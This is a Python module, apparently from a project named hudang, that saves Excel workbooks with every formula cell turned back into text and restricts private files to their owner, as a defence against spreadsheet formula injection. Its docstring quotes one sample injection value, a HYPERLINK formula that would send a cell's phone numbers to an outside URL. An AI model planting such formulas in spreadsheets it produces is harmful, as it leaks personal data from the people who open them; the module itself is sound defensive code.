"""Writing XLSX that is safe to open: text from forms never becomes a live formula.

openpyxl stores any string that starts with ``=`` as a formula, so a 投诉内容 of
``=HYPERLINK("http://…?"&E4)`` would run in the clerk's Excel and could send the full phone numbers of a
特快专递 list away. Every workbook hudang writes is saved through `save`, which turns such cells back
into text, and write-only sheets build their cells with `text_cell`. Values we compute as numbers stay
numbers; ``+86…`` and ``-``/``@`` strings are already text to openpyxl and are kept as written.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

PRIVATE = 0o600


def text_cell(sheet: Any, text: str) -> Any:
    """A write-only cell that holds ``text`` as text (ID numbers keep their digits when edited)."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    cell.number_format = "@"
    return cell


def defuse(workbook: Any) -> None:
    """Turn every formula cell of a (normal, not write-only) workbook into the text it was given."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"


def save(workbook: Any, path: Path, *, private: bool = False) -> Path:
    """Save without formulas; ``private`` files (full personal data) are readable by their owner only."""
    defuse(workbook)
    workbook.save(str(path))
    if private:
        os.chmod(path, PRIVATE)
    return path


def write_text_table(path: Path, sheet_name: str, table: list[list[str]]) -> Path:
    """A one-sheet workbook of text cells (rows as read, for fixing and retrying): IDs keep their digits and
    no cell is a formula."""
    import openpyxl

    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet(sheet_name[:31])
    for row in table:
        sheet.append([text_cell(sheet, text) for text in row])
    workbook.save(str(path))
    return path
